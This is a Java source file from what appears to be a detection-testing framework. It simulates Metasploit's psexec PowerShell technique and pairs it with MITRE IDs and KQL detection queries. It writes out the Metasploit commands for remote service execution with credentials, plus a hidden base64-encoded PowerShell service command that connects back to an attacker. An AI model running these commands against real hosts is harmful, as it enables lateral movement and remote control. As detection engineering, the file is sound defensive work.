package org.conshelf.simulate;

import java.nio.charset.StandardCharsets;

/// Metasploit's psexec with its PowerShell target.
final class MetasploitPsExecPowerShell {
    static final SimulatedTest TEST =
            SimulatedTest.attack(
                            "metasploit-psexec-powershell",
                            "Metasploit's psexec: a service that starts PowerShell")
                    .techniques("T1569.002", "T1021.002", "T1543.003", "T1059.001", "T1027.010")
                    .behaviour(
                            """
                            From a computer of the intruder's, the module installs a service whose command has the command
                            processor start PowerShell, hidden, with a script that is packed in its own command line. No
                            program is copied. The service fails to start, and is deleted; PowerShell connects back.
                            """)
                    .signal(
                            "A service whose command is COMSPEC that starts a hidden PowerShell (System 7045, Security"
                                    + " 4697).",
                            """
                            SecurityEvent
                            | where EventID == 4697 and ServiceFileName startswith "%COMSPEC% /b /c start /b /min powershell.exe"
                            | where ServiceFileName has "FromBase64String"
                            """)
                    .signal(
                            "services.exe starts cmd.exe, which starts PowerShell (Security 4688, Sysmon 1).",
                            """
                            DeviceProcessEvents
                            | where FileName =~ "powershell.exe" and InitiatingProcessFileName =~ "cmd.exe"
                            | where ProcessCommandLine has_all ("nop", "hidden", "FromBase64String")
                            """)
                    .signal(
                            "The service did not answer (System 7009).",
                            """
                            Event
                            | where EventLog == "System" and EventID == 7009
                            """)
                    .signal(
                            "PowerShell connects to a computer outside (Sysmon 3).",
                            """
                            DeviceNetworkEvents
                            | where InitiatingProcessFileName =~ "powershell.exe" and ActionType == "ConnectionSuccess"
                            """)
                    .commands(
                            """
                            use exploit/windows/smb/psexec
                            set RHOSTS TARGET
                            set SMBUser USER
                            set SMBPass PASSWORD
                            set target 1
                            run
                            """)
                    .cleanUp("exit")
                    .plays(MetasploitPsExecPowerShell::play);

    private MetasploitPsExecPowerShell() {}

    private static void play(Stage stage) {
        var client = stage.randomLetters(16);
        var from = stage.outsider("attacker", client);
        var target = stage.server("target");
        var connection = SmbConnection.openFromOutside(from, target, stage.administrator());
        var packed = EncodedCommand.encode(EncodedCommand.SCRIPT.getBytes(StandardCharsets.UTF_8));
        var script =
                "powershell.exe -nop -w hidden -noni -c \"$t=[Text.Encoding]::UTF8.GetString("
                        + "[Convert]::FromBase64String('"
                        + packed
                        + "'));&([scriptblock]::Create($t))\"";
        var switches = " /b /c start /b /min ";
        var service =
                Service.onDemand(stage.randomLetters(8), "%COMSPEC%" + switches + script)
                        .displayed(stage.randomLetters(16));
        var control = connection.serviceControl();
        var powerShell = PowerShellService.run(control, service, switches, script);
        target.sysmon().connected(powerShell, target.nextPort(), from, 4444);
        stage.pass(30_000);
        connection.close();
    }
}
